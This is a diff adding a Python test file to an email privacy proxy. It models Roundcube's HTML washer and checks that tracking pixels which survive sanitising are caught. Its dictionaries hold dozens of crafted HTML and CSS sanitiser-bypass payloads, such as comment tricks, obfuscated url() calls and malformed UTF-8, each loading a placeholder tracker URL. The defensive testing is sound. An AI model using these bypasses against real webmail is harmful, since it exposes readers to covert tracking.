@@ -1,0 +1,180 @@
+"""Roundcube's HTML washer, as modelled (beacon_proxy.rewrite.webmail).
+
+Session 17's attack ran the refused copies through Roundcube's own washer (rcube_washtml,
+both its libxml2 and its HTML5 parser) and rendered the result in Chromium: these cases
+were stripped by the precise path, and some survived the fallback too, yet loaded the
+tracker once washed (``ATTACKS`` and ``BAD_UTF8``: session 17; ``MORE``: session 18's
+run of Roundcube's own PHP code).  Each is now read as the washer makes it: the precise
+path gives such a part to the fallback, and the fallback holds it when even its
+neutralised text loads once washed.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from beacon_proxy.consent.policy import Policy
+from beacon_proxy.rewrite import webmail
+from beacon_proxy.rewrite.copies import CopyPolicy, Outcome, decide, prepare
+from beacon_proxy.rewrite.engine import Engine
+from beacon_proxy.rewrite.rules import load_rules
+
+ENGINE = Engine(load_rules())
+U = "https://t.oracle-tracker.example/p/x.gif?e=reader%40example.org"
+P = "https://t.oracle-tracker.example/p/reader-example-org/x.gif"
+ATTACKS = {
+    "alnum_comment": '<p>x<!--x><img src="{U}">--></p>',
+    "end_tag_attributes": '<p>x</b title="><img src={U}>"></p>',
+    "quote_in_tag_name": '<p>x<i"mg src="{U}"></p>',
+    "smart_tag_colon": '<p>x<img:x src="{U}"></p>',
+    "end_tag_blank": '<p>x</ <img src="{U}"></p>',
+    "titlex": '<p>x<titlex><!--</title><img src="{U}">--></p>',
+    "title_end_with_blank": '<p>x<title></title ><!--</title><img src="{U}">--></p>',
+    "html_attributes": '<html title="><img src={U}>"><body><p>x</p></body></html>',
+    "meta_charset": '<p>x<meta charset=utf-8 a="><img src={U}>"></p>',
+    "header_as_head": '<header a="><img src={U}>"><p>x</p></header>',
+    "list_in_comment": '<ul><li>a</li><!--<ul><li><img src="{U}"></li></ul>--></ul>',
+    "base_in_comment": '<!--<base href="https://t.oracle-tracker.example/p/">--><p>'
+                       '<img src="x.gif?e=reader%40example.org"></p>',
+    "basefont": '<basefont href="https://t.oracle-tracker.example/p/"><p>'
+                '<img src="x.gif?e=reader%40example.org"></p>',
+    "style_comment": '<p style="background:ur/**/l({U})">x</p>',
+    "style_double_entity": '<p style="background:u&amp;#114;l({U})">x</p>',
+    "style_paren_entity": '<p style="background:url&amp;#40;{U})">x</p>',
+    "style_backslash": '<p style="background:url\\({U})">x</p>',
+    "style_hex_escape": '<p style="background:url\\28{U})">x</p>',
+    "style_tag": '<p style="background:ur<b>l({U})">x</p>',
+    "xmp": '<p>x<xmp><img src="{U}"></xmp></p>',
+    "noembed": '<p>x<noembed><img src="{U}"></noembed></p>',
+    "plaintext": '<p>x<plaintext><img src="{U}">',
+    "title_over_lines": '<title>\n<img src="{U}"></title><p>x</p>',
+    "cdata": '<p>x<![CDATA[ <img src="{U}"> ]]></p>',
+    "bogus_declaration": '<p>x<!x <img src="{U}">></p>',
+}
+MORE = {
+    # (a <style> keeps only URLs without a query: the identifier in the path)
+    "style_tag_in_element": "<style>p{background:u<x>rl({P})}</style><p>x</p>",
+    "style_entity_in_element": "<style>p{background:u&#114;l({P})}</style><p>x</p>",
+    "body_background": '<body background="x),url({U}"><p>x</p></body>',
+    "base_in_attribute": "<p title='<base href=\"https://t.oracle-tracker.example/p/\">'>a</p>"
+                         '<img src="x.gif?e=reader%40example.org">',
+    "head_in_attribute": '<p title="<head> <img src={U}>">x</p>',
+    "slash_in_tag_name": '<p>x<i/mg src="{U}"></p>',
+    "percent_in_tag_name": '<p>x<i%mg src="{U}"></p>',
+    "nul_in_tag_name": '<p>x<im\x00g src="{U}"></p>',
+    "noframes": '<p>x<noframes><img src="{U}"></noframes></p>',
+    "iframe_content": '<p>x<iframe><img src="{U}"></iframe></p>',
+    "title_unclosed": '<p>x<title><img src="{U}">',
+    "curly_quotes": '<p title="x\u201c><img src={U}>\u201c">y</p>',
+    "title_removal_joins": '<p>x<<title>a</title>img src="{U}"></p>',
+    "list_out_of_attribute": '<ul><li>a</li><p title="<ul><img src={U}></ul>">b</p></ul>',
+}
+BAD_UTF8 = {
+    "invalid_in_tag_name": b'<p>x<i\xffmg src="{U}"></p>',
+    "invalid_in_attribute": b'<img s\xffrc="{U}">',
+    "invalid_in_background": b'<table><tr><td back\xffground="{U}">x</td></tr></table>',
+    "invalid_in_url": b'<p style="background:u\xffrl({U})">x</p>',
+}
+
+
+def _message(html: bytes) -> bytes:
+    return (b"From: a@shop.example\r\nTo: reader@example.org\r\nSubject: s\r\n"
+            b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html
+            + b"\r\n")
+
+
+def _refused(data: bytes) -> tuple[Outcome, bytes | None]:
+    prepared = prepare(ENGINE, data, CopyPolicy())
+    copy = decide(ENGINE, prepared, "reader@example.org", Policy.REFUSED, CopyPolicy())
+    return copy.outcome, copy.data
+
+
+CASES = {**{k: v.replace("{U}", U).replace("{P}", P).encode()
+            for k, v in (ATTACKS | MORE).items()},
+         **{k: v.replace(b"{U}", U.encode()) for k, v in BAD_UTF8.items()}}
+
+
+@pytest.mark.parametrize("case", list(CASES))
+def test_what_the_washer_makes_load_is_seen(case: str) -> None:
+    assert webmail.loads_more(CASES[case], "utf-8")
+    outcome, copy = _refused(_message(CASES[case]))
+    if copy is not None:  # the fallback's copy: nothing loads once washed either
+        assert outcome is Outcome.FALLBACK
+        body = copy.split(b"\r\n\r\n", 1)[1]
+        assert not webmail.loads(body, "utf-8"), body
+
+
+@pytest.mark.parametrize("html", [
+    b'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Hi</title></head>'
+    b'<body><p style="color:red;font-family:\'A\\\'s\'">x</p><img src="https://cdn.example/a.png">'
+    b"<!--[if mso]><p>o</p><![endif]--><ul><li>a</li></ul></body></html>",
+    b'<base href="https://shop.example/"><img src="a.png"><p>x</p>',
+    b"<p>caf\xc3\xa9 &amp; <b>bold</b></p>",
+    # Outlook's markup, conditional comments with VML, a word document's curly quotes
+    b'<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
+    b'office:office"><head><meta http-equiv="Content-Type" content="text/html; '
+    b'charset=utf-8"></head><body><p class=MsoNormal>Hi<o:p></o:p></p><!--[if gte mso 9]>'
+    b'<v:rect style="width:600px"><v:fill src="https://cdn.example/bg.png"/></v:rect>'
+    b'<![endif]--><p>\xe2\x80\x9cQuoted\xe2\x80\x9d \xe2\x80\x94 it\xe2\x80\x99s'
+    b"\xe2\x80\xa6</p></body></html>",
+    b'<body background="https://cdn.example/bg.png" bgcolor="#fff"><p>x</p></body>',
+    b"<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol><li>x</li></ol>",
+    b'<style>p{color:red} .a > .b {background:url(https://cdn.example/a.png)}</style>',
+    b"<table><tr><td>a</td ></tr></table><br/><hr />",
+])
+def test_honest_html_washes_to_the_same_loads(html: bytes) -> None:
+    assert not webmail.loads_more(html, "utf-8")
+
+
+TEMPLATES = sorted((Path(__file__).resolve().parents[3] / "shared" / "data" / "templates")
+                   .glob("*.html"))
+
+
+@pytest.mark.skipif(not TEMPLATES, reason="no shared templates")
+def test_the_real_templates_keep_the_precise_path() -> None:
+    for path in TEMPLATES:
+        assert not webmail.loads_more(path.read_bytes(), "utf-8"), path.name
+
+
+def test_a_title_is_cut_at_the_first_end_on_its_line() -> None:
+    assert webmail.washed(b"<html><head><title>a</title>b</title></head>") == (
+        b"<html><head><meta charset=\"UTF-8\" />b</title></head>")
+    kept = webmail.washed(b"<p><title>a\n</title></p>")
+    assert kept is not None and b"<title>a\n</title>" in kept
+
+
+def test_the_base_replacer_rewrites_every_reference() -> None:
+    out = webmail.washed(b'<base href="https://s.example/a/b"><img src=c.png>'
+                         b'<p style="background:url(d.png)">')
+    assert out is not None
+    assert b'src="https://s.example/a/c.png"' in out
+    assert b"url(=" in out  # rcube_base_replacer's own slip: no load there
+
+
+def test_a_tag_inside_another_keeps_its_name() -> None:
+    """Only the first "<" after a ">" starts a tag for the washer's pattern."""
+    html = b'<p title="<a:b>">x</p><!-- <c:d> -->'
+    assert webmail.washed(html) == (b'<html><head><meta charset="UTF-8" /></head>'
+                                    b'<p title="<a:b>">x</p><!-- <c> -->')
+
+
+def test_lists_nested_past_linear_work_are_not_read() -> None:
+    html = b"<ul><li>a</li>" + b"<ul><li>" * 2000 + b"</ul>"
+    assert webmail.washed(html) is None
+    assert webmail.loads_more(html, "utf-8")
+
+
+def test_text_in_another_charset_is_washed_as_utf8() -> None:
+    """Roundcube converts to UTF-8 first: windows-1252's curly quotes become quotes."""
+    html = f'<p title="x\x93><img src={U}>\x94">y</p>'.encode("latin-1")
+    assert webmail.loads_more(html, "windows-1252")
+
+
+def test_what_is_read_more_widely_than_roundcube_is_added_never_in_place() -> None:
+    """A "style=" in text, read as an attribute, must not hide the markup after it."""
+    html = f'<p> style="x<i"mg src={U}>y</p>'.encode()
+    documents = webmail.readings(html)
+    assert documents is not None and f"<img src={U}>".encode() in documents[0]
+    assert webmail.loads_more(html, "utf-8")
